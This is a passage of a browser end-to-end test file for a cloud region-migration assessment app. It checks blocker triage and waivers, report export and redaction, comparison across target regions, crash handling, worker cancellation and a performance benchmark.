  assert.match(await page.getByTestId("setup-summary").innerText(), /China North 3/);
  await page.waitForFunction(() => document.activeElement?.id === "dashboard-title");
  const dashboardTop = await page.getByTestId("dashboard").evaluate((el) => el.getBoundingClientRect().top + window.scrollY);
  assert.ok(dashboardTop < 400, `the dashboard starts in the first screen (at ${dashboardTop}px)`);
  const before = await page.getByTestId("decision-count").innerText();
  const blockers = Number(before.match(/^(\d+) blockers?/)[1]);
  assert.ok(blockers > 0, before);
  assert.match(before, /, 0 waived$/);
  await screenshot(page, "triage-1-dashboard-first");

  // The top blockers name rules with counts; one opens the findings grouped by rule, for that rule.
  const top = page.getByTestId("top-blockers").locator("li");
  assert.ok((await top.count()) > 0, "top blockers are listed");
  const rule = await top.first().getAttribute("data-rule");
  assert.match(rule, /^RS\d{3}$/);
  const topCount = Number((await top.first().locator(".badge").innerText()).replace(/[^0-9]/g, ""));
  await top.first().locator("button").click();
  const groups = page.getByTestId("findings-groups");
  const row = groups.locator(`[data-rule="${rule}"]`);
  await row.waitFor();
  assert.equal(await page.getByTestId("findings-search").inputValue(), rule);
  await page.waitForFunction((rule) => document.activeElement?.closest(`[data-rule="${rule}"]`) != null, rule);
  // The heading of the findings clears the sticky navigation after the jump.
  const navBottom = await page.locator("nav.view-nav").evaluate((el) => el.getBoundingClientRect().bottom);
  const rowTop = await row.evaluate((el) => el.getBoundingClientRect().top);
  assert.ok(rowTop >= navBottom, `the rule's row (${rowTop}px) is below the navigation (${navBottom}px)`);
  assert.match(await row.innerText(), new RegExp(`${topCount} findings?`));
  await screenshot(page, "triage-2-rule-opened");

  // Group by rule with every rule shown; waive the rule with a reason and an owner.
  await page.getByTestId("findings-search").fill("");
  assert.ok((await groups.locator("[data-rule]").count()) > 1, "one row per rule");
  const controls = row.locator('[data-scope="rule"]');
  await controls.getByTestId("finding-decision").selectOption("waived");
  await controls.getByTestId("finding-owner").fill("Li Wei");
  await controls.getByTestId("finding-note").fill("Moved by hand in wave 1; agreed with the app owner");
  await page.waitForFunction(
    (before) => document.querySelector('[data-testid="decision-count"]')?.innerText !== before,
    before,
  );
  const after = await page.getByTestId("decision-count").innerText();
  assert.equal(after, `${blockers - topCount} blocker${blockers - topCount === 1 ? "" : "s"}, ${topCount} waived`);
  // The waived rule leaves the top blockers.
  assert.equal(await page.getByTestId("top-blockers").locator(`[data-rule="${rule}"]`).count(), 0);
  // Its findings follow the rule.
  if ((await row.locator(".row-toggle").getAttribute("aria-expanded")) !== "true") await row.locator(".row-toggle").click();
  const findingControls = row.locator('[data-scope="finding"]');
  assert.equal(await findingControls.first().getByTestId("finding-decision").inputValue(), "waived");
  await screenshot(page, "triage-3-waived", { fullPage: false });

  // Reload: the decision is kept for this inventory.
  const stored = await page.evaluate(() => Object.keys(localStorage).filter((k) => k.startsWith("regionshift.decisions.")));
  assert.equal(stored.length, 1, "the decisions are kept under the inventory's key");
  await page.reload();
  await page.getByTestId("sample-button").waitFor({ timeout: 30000 });
  await page.getByTestId("sample-button").click();
  await page.getByTestId("decision-count").waitFor({ timeout: 30000 });
  await page.waitForFunction((after) => document.querySelector('[data-testid="decision-count"]')?.innerText === after, after);

  // The findings CSV and the report carry it; the report dropped back in restores it.
  const csv = fs.readFileSync(await downloadFrom(page, "export-findings-csv", "findings.csv"), "utf8");
  assert.match(csv.split("\r\n")[0], /,decision,decided_for,owner,note$/);
  assert.equal(csv.split("\r\n").filter((line) => line.includes(`,${rule},`) && line.includes(",waived,rule,Li Wei,")).length, topCount);
  const reportFile = await downloadFrom(page, "report-download", "report.html");
  const html = fs.readFileSync(reportFile, "utf8");
  assert.match(html, /Moved by hand in wave 1/);
  assert.match(html, new RegExp(`decisions: ${after}`));
  // The offline report shows the decision with the rule and on each of its findings.
  const reader = await browser.newPage();
  await reader.goto("file://" + reportFile);
  const decided = reader.locator("p.decision", { hasText: "Li Wei" }).first();
  assert.match(await decided.innerText(), /waived \(owner: Li Wei\): Moved by hand in wave 1/);
  await decided.scrollIntoViewIfNeeded();
  await screenshot(reader, "triage-5-report-decision");
  await reader.close();
  await page.evaluate(() => localStorage.clear());
  await page.close();

  const { page: again, errors: againErrors } = await openApp();
  await again.getByTestId("inventory-input").setInputFiles(reportFile);
  await again.getByTestId("decision-count").waitFor({ timeout: 30000 });
  await again.waitForFunction((after) => document.querySelector('[data-testid="decision-count"]')?.innerText === after, after);
  await again.getByTestId("findings-by-rule").click();
  const back = again.getByTestId("findings-groups").locator(`[data-rule="${rule}"] [data-scope="rule"]`);
  assert.equal(await back.getByTestId("finding-decision").inputValue(), "waived");
  assert.equal(await back.getByTestId("finding-owner").inputValue(), "Li Wei");
  assert.match(await back.getByTestId("finding-note").inputValue(), /Moved by hand/);
  await back.scrollIntoViewIfNeeded();
  await screenshot(again, "triage-4-reopened");
  assert.deepEqual(againErrors, []);
  await again.evaluate(() => localStorage.clear());
  await again.close();
  assert.deepEqual(errors, []);
});

test("an empty export is not called imported: it says no resources were found and what is accepted", async () => {
  const { page, errors } = await openApp();
  await page.getByTestId("paste-input").fill("[]");
  await page.getByTestId("paste-button").click();
  const empty = page.getByTestId("file-empty");
  await empty.waitFor({ timeout: 30000 });
  assert.match(await empty.innerText(), /no resources found/);
  assert.match(await empty.innerText(), /Accepted:/);
  assert.equal(await page.getByTestId("file-list").locator(".badge.ok").count(), 0, "no green badge");
  await empty.scrollIntoViewIfNeeded();
  await screenshot(page, "empty-input");
  assert.deepEqual(errors, []);
  await page.close();
});

test("a redacted report keeps no resource name and cannot be reopened", async () => {
  const { page, errors } = await openApp();
  await assessSample(page, "chinanorth3");
  await page.getByTestId("report-redact").check();
  const reportFile = await downloadFrom(page, "report-download", "redacted.html");
  const html = fs.readFileSync(reportFile, "utf8");
  for (const secret of ["vm-retail-render-01", "rg-retail-data", "sqldb-orders", "sample-estate.json"]) {
    assert.ok(!html.includes(secret), `${secret} survived redaction`);
  }
  await page.getByTestId("inventory-input").setInputFiles(reportFile);
  await page.waitForFunction(() => /redacted/.test(document.querySelector('[data-testid="diagnostics"]')?.innerText ?? ""), null, { timeout: 30000 });
  assert.deepEqual(errors, []);
  await page.close();
});

test("the sample compared over every target: one row each, the suggestion explained, sorting, a rule and one click to make a row the target", async () => {
  const { page, errors, requests } = await openApp();
  await page.getByTestId("sample-button").click();
  await page.getByTestId("inventory-count").waitFor({ timeout: 30000 });
  // Earlier journeys leave a remembered target: start from none.
  await openSetup(page);
  await page.getByTestId("target-region").selectOption("");
  const view = page.getByTestId("compare-view");
  await view.waitFor({ timeout: 30000 });
  await page.getByTestId("compare-button").click();
  const table = page.getByTestId("compare-table");
  await table.waitFor({ timeout: 60000 });
  const rows = table.locator('tbody tr[data-testid="compare-row"]');
  // Every target the catalog knows, once.
  const targets = await rows.evaluateAll((trs) => trs.map((tr) => tr.dataset.target));
  assert.equal(targets.length, 16, `${targets}`);
  assert.equal(new Set(targets).size, 16);
  for (const target of ["chinanorth3", "chinaeast2", "chinaeast3", "eastus", "westeurope"]) {
    assert.ok(targets.includes(target), `${target} is compared`);
  }
  // China East 3 is marked as restricted.
  assert.match(await table.locator('tr[data-target="chinaeast3"]').innerText(), /access-restricted/);
  // The suggestion is explained and has no more blockers than any other target.
  const blockersOf = (trs) => trs.map((tr) => ({ target: tr.dataset.target, blockers: Number(tr.cells[7].innerText.replace(/,/g, "")) }));
  const blockers = await rows.evaluateAll(blockersOf);
  const suggestion = page.getByTestId("compare-suggestion");
  const explained = await suggestion.innerText();
  const suggested = explained.match(/Suggested: .+ \((\w+)\)/)[1];
  const fewest = Math.min(...blockers.map((row) => row.blockers));
  assert.equal(blockers.find((row) => row.target === suggested).blockers, fewest, explained);
  assert.match(explained, /blockers?/);
  assert.match(explained, /pair in the regions table/);
  assert.ok((await suggestion.locator("li").count()) >= 4, "several reasons");
  // Sorting by a column, both ways.
  const header = table.locator("thead th", { hasText: "Blockers" });
  await header.locator("button").click();
  assert.equal(await header.getAttribute("aria-sort"), "ascending");
  let sorted = (await rows.evaluateAll(blockersOf)).map((row) => row.blockers);
  assert.deepEqual(sorted, [...sorted].sort((a, b) => a - b));
  await header.locator("button").click();
  assert.equal(await header.getAttribute("aria-sort"), "descending");
  sorted = (await rows.evaluateAll(blockersOf)).map((row) => row.blockers);
  assert.deepEqual(sorted, [...sorted].sort((a, b) => b - a));
  // Another rule ranks again at once and says so.
  await page.getByTestId("compare-rank").selectOption("cost,blockers,duration");
  await page.waitForFunction(() => /^lowest monthly cost/.test(document.querySelector('[data-testid="compare-rule"]')?.innerText ?? ""));
  await page.getByTestId("compare-rank").selectOption("blockers,cost,duration");
  await page.waitForFunction(() => /^fewest blockers/.test(document.querySelector('[data-testid="compare-rule"]')?.innerText ?? ""));
  // One click makes China North 3 the target: it is assessed, and the comparison stays.
  await table.locator('tr[data-target="chinanorth3"]').getByTestId("compare-choose").click();
  await page.waitForFunction(
    () => document.querySelector('[data-testid="readiness-summary"]')?.closest("section")?.innerText.includes("(chinanorth3)"),
    null,
    { timeout: 30000 },
  );
  assert.equal(await page.getByTestId("target-region").inputValue(), "chinanorth3");
  assert.match(await table.locator('tr[data-target="chinanorth3"]').innerText(), /current target/);
  assert.equal(await rows.count(), 16);
  // The report can carry the comparison.
  assert.ok(await page.getByTestId("report-compare").isChecked());
  const reportFile = await downloadFrom(page, "report-download", "compared.html");
  const html = fs.readFileSync(reportFile, "utf8");
  assert.match(html, /data-testid="report-comparison"/);
  assert.match(html, new RegExp(`Suggestion: [^<]+\\(${suggested}\\)`));
  const foreign = requests.filter((url) => !url.startsWith(origin + "/") && !url.startsWith("data:") && !url.startsWith("blob:"));
  assert.deepEqual(foreign, []);
  assert.deepEqual(errors, []);
  await page.close();
});

// A panic in the app (release build, panic = "abort") is reported in the page: the
// test-hook build panics during the analysis when the URL says ?panic=analysis.
test("a panic says what went wrong and where, keeps the loaded files, and offers a bundle without subscription data", async () => {
  const { page, requests } = await openApp(testOrigin + SUB_PATH + "?panic=analysis");
  await page.getByTestId("sample-button").click();
  const report = page.getByTestId("crash-report");
  await report.waitFor({ timeout: 30000 });
  const text = await report.innerText();
  assert.match(text, /Something went wrong while analysing the inputs/);
  assert.match(text, /a test panic at the analysis stage/);
  // The loaded file is still listed; the app underneath takes no more input.
  assert.match(await page.getByTestId("file-list").innerText(), /sample-estate\.json/);
  assert.equal(await page.locator("#app").getAttribute("inert"), "");
  // The bundle names no file and holds no subscription data.
  const bundleFile = await downloadFrom(page, "crash-bundle", "crash.json");
  const bundle = JSON.parse(fs.readFileSync(bundleFile, "utf8"));
  assert.equal(bundle.schema, "regionshift.crash/1");
  assert.equal(bundle.stage, "analysing the inputs");
  assert.equal(bundle.subscription_data, false);
  assert.equal(bundle.source, undefined);
  assert.ok(!fs.readFileSync(bundleFile, "utf8").includes("sample-estate"), "the plain bundle names no input");
  assert.ok(bundle.inputs.length === 1 && bundle.inputs[0].size > 0);
  // Only when the person asks for it does the bundle carry the inputs.
  const fullFile = await downloadFrom(page, "crash-bundle-with-inputs", "crash-full.json");
  const full = JSON.parse(fs.readFileSync(fullFile, "utf8"));
  assert.equal(full.subscription_data, true);
  assert.equal(full.source.files[0].name, "sample-estate.json");
  const foreign = requests.filter((url) => !url.startsWith(testOrigin + "/") && !url.startsWith("data:") && !url.startsWith("blob:"));
  assert.deepEqual(foreign, []);
  await page.close();
});

test("the published build ignores the test-only panic request", async () => {
  const { page, errors } = await openApp(origin + SUB_PATH + "?panic=analysis");
  await page.getByTestId("sample-button").click();
  await page.getByTestId("inventory-count").waitFor({ timeout: 30000 });
  assert.equal(await page.getByTestId("crash-report").count(), 0);
  assert.deepEqual(errors, []);
  await page.close();
});

// The download worker (crates/regionshift-web/src/worker.rs) builds the report off the
// page's thread: the progress line names each stage, and the file arrives.
test("a download is built by the worker with its progress shown, and can be cancelled with the inputs kept", async () => {
  const { page, errors } = await openApp();
  await assessSample(page, "chinanorth3");
  await page.getByTestId("dashboard").waitFor({ timeout: 30000 });
  const stages = await page.evaluate(() => {
    window.__stages = [];
    new MutationObserver(() => {
      const stage = document.querySelector('[data-testid="analysis-progress"]')?.dataset.stage;
      if (stage && window.__stages.at(-1) !== stage) window.__stages.push(stage);
    }).observe(document.body, { subtree: true, childList: true, attributes: true, attributeFilter: ["data-stage"] });
    return window.__stages;
  });
  assert.deepEqual(stages, []);
  const markdown = fs.readFileSync(await downloadFrom(page, "export-markdown", "summary.md"), "utf8");
  assert.match(markdown, /chinanorth3|China North 3/);
  const seen = await page.evaluate(() => window.__stages);
  for (const stage of ["analysis", "report", "writing"]) {
    assert.ok(seen.includes(stage), `the stage ${stage} was shown: ${JSON.stringify(seen)}`);
  }
  await page.getByTestId("analysis-progress").waitFor({ state: "detached", timeout: 30000 });
  // Cancel: the worker is terminated, no file arrives, the inputs and analysis stay.
  let downloaded = false;
  page.on("download", () => (downloaded = true));
  // Clicked from the page the moment it shows: the sample's report takes the worker
  // well under a second, less than an outside click needs.
  const outcome = await page.evaluate(
    () =>
      new Promise((resolve) => {
        const observer = new MutationObserver(() => {
          const cancel = document.querySelector('[data-testid="analysis-cancel"]');
          if (cancel) {
            observer.disconnect();
            cancel.click();
            resolve("cancelled");
          }
        });
        observer.observe(document.body, { subtree: true, childList: true });
        document.querySelector('[data-testid="report-download"]').click();
        setTimeout(() => resolve("no cancel button within 10 s"), 10000);
      }),
  );
  assert.equal(outcome, "cancelled");
  await page.getByTestId("analysis-progress").waitFor({ state: "detached", timeout: 5000 });
  await page.waitForTimeout(1500);
  assert.equal(downloaded, false, "a cancelled download still arrived");
  assert.match(await page.getByTestId("file-list").innerText(), /sample-estate\.json/);
  assert.ok((await resourceCount(page)) >= 200);
  // A fresh worker serves the next download.
  const csv = fs.readFileSync(await downloadFrom(page, "export-plan-csv", "plan.csv"), "utf8");
  assert.ok(csv.split("\n").length > 10, "the plan CSV has rows");
  assert.deepEqual(errors, []);
  await page.close();
});

// A panic in the worker (test-hook build: ?panic=worker-report) is an error in the page,
// which keeps working with its inputs.
test("a panic in the download worker says where it failed and keeps the inputs", async () => {
  const { page } = await openApp(testOrigin + SUB_PATH + "?panic=worker-report");
  await assessSample(page, "chinanorth3");
  await page.getByTestId("dashboard").waitFor({ timeout: 30000 });
  await page.getByTestId("export-json").click();
  const failure = page.getByTestId("analysis-failure");
  await failure.waitFor({ timeout: 60000 });
  const text = await failure.innerText();
  assert.match(text, /The analysis failed at building the report: a test panic at the worker's report stage/);
  assert.match(text, /your files are unchanged; please report it/);
  assert.equal(await page.getByTestId("crash-report").count(), 0, "the page itself did not crash");
  assert.equal(await page.locator("#app").getAttribute("inert"), null);
  assert.match(await page.getByTestId("file-list").innerText(), /sample-estate\.json/);
  const bundle = JSON.parse(fs.readFileSync(await downloadFrom(page, "crash-bundle", "crash.json"), "utf8"));
  assert.equal(bundle.stage, "building the report");
  assert.equal(bundle.subscription_data, false);
  // The page still works: another target is analysed.
  await openSetup(page); // the setup collapses once a remembered target has results
  await page.getByTestId("target-region").selectOption("chinaeast2");
  await page.waitForFunction(
    () => document.querySelector('[data-testid="readiness-summary"]')?.closest("section")?.innerText.includes("(chinaeast2)"),
    null,
    { timeout: 30000 },
  );
  await page.close();
});

// A benchmark, not a timed test: a synthetic Resource Graph export
// (REGIONSHIFT_BROWSER_BENCH_RESOURCES, default 20,000) uploaded with a target chosen,
// timed to its count and readiness, against the native `regionshift analyze` of the same
// file; and the longest main-thread task meanwhile (PerformanceObserver "longtask").
// Both figures are printed; it fails over 3x the native time. A task over 500 ms fails
// its subtest, which is marked TODO (reported, not failing the run) while the analysis
// behind the views still runs on the page's thread (issue 14): remove the mark once it
// runs in the worker.
test("benchmark: a large export analysed in the page against the native analysis", { timeout: 1_800_000 }, async (t) => {
  const resources = Number(process.env.REGIONSHIFT_BROWSER_BENCH_RESOURCES ?? 20000);
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), "regionshift-bench-"));
  const file = path.join(dir, `synthetic-${resources}.json`);
  const cargo = (args, options = {}) => execFileSync("cargo", args, { cwd: repo, maxBuffer: 1 << 30, ...options });
  fs.writeFileSync(file, cargo(["run", "--quiet", "--release", "--locked", "-p", "regionshift-dev", "--", "synth", String(resources)]));
  const size = fs.statSync(file).size;
  cargo(["build", "--quiet", "--release", "--locked", "-p", "regionshift-cli"], { stdio: "inherit" });
  const cli = path.join(repo, "target/release/regionshift");
  const nativeStart = process.hrtime.bigint();
  execFileSync(cli, ["analyze", file, "--target", "chinanorth3"], { maxBuffer: 1 << 30, stdio: ["ignore", "ignore", "inherit"] });
  const nativeMs = Number(process.hrtime.bigint() - nativeStart) / 1e6;

  const { page, errors } = await openApp();
  await page.evaluate(() => localStorage.setItem("regionshift.target-region", "chinanorth3"));
  await page.reload();
  await page.getByTestId("sample-button").waitFor({ timeout: 30000 });
  await page.evaluate(() => {
    window.__longest = 0;
    window.__longTasks = 0;
    new PerformanceObserver((list) => {
      for (const entry of list.getEntries()) {
        window.__longTasks += 1;
        window.__longest = Math.max(window.__longest, entry.duration);
      }
    }).observe({ type: "longtask" });
  });
  const browserStart = Date.now();
  await page.getByTestId("inventory-input").setInputFiles(file);
  await page.waitForFunction(
    () =>
      document.querySelector('[data-testid="inventory-count"]') &&
      document.querySelector('[data-testid="readiness-summary"]')?.closest("section")?.innerText.includes("(chinanorth3)"),
    null,
    { timeout: 1_500_000, polling: 50 },
  );
  const browserMs = Date.now() - browserStart;
  const count = await resourceCount(page);
  // Let the observer deliver the last entries.
  await page.waitForTimeout(500);
  const { longest, longTasks } = await page.evaluate(() => ({ longest: window.__longest, longTasks: window.__longTasks }));
  // The offline report of the same estate, built by the download worker: the page's
  // longest task meanwhile.
  await page.evaluate(() => {
    window.__longest = 0;
    window.__longTasks = 0;
  });
  const downloadStart = Date.now();
  const [download] = await Promise.all([
    page.waitForEvent("download", { timeout: 1_500_000 }),
    page.getByTestId("report-download").click(),
  ]);
  const downloadMs = Date.now() - downloadStart;
  const reportFile = path.join(dir, "report.html");
  await download.saveAs(reportFile);
  const reportSize = fs.statSync(reportFile).size;
  await page.waitForTimeout(500);
  const during = await page.evaluate(() => ({ longest: window.__longest, longTasks: window.__longTasks }));
  console.log(
    `browser benchmark: the HTML report (${(reportSize / 1e6).toFixed(1)} MB) built in the worker in ${(downloadMs / 1000).toFixed(2)} s; ` +
      `longest main-thread task meanwhile ${during.longest.toFixed(0)} ms over ${during.longTasks} long tasks (limit 500 ms)`,
  );
  const ratio = browserMs / nativeMs;
  console.log(
    `browser benchmark: ${resources} resources (${(size / 1e6).toFixed(1)} MB): ` +
      `page ${(browserMs / 1000).toFixed(2)} s to the count and readiness, native analyze ${(nativeMs / 1000).toFixed(2)} s, ` +
      `ratio ${ratio.toFixed(2)}x (limit 3x); longest main-thread task ${longest.toFixed(0)} ms over ${longTasks} long tasks (limit 500 ms)`,
  );
  fs.rmSync(dir, { recursive: true, force: true });
  assert.ok(count >= resources, `counted ${count} of ${resources}`);
  assert.deepEqual(errors, []);
  await page.close();
  assert.ok(ratio <= 3, `the page took ${ratio.toFixed(2)}x the native analysis (limit 3x)`);
  assert.ok(reportSize > size / 10, `the report is ${reportSize} bytes`);
  assert.ok(during.longest <= 500, `a download kept the page busy for ${during.longest.toFixed(0)} ms (limit 500 ms)`);
  await t.test(
    "no main-thread task over 500 ms while the export is analysed",
    { todo: "the analysis behind the views still runs on the page's thread" },
    () => assert.ok(longest <= 500, `the longest main-thread task took ${longest.toFixed(0)} ms (limit 500 ms)`),
  );
});
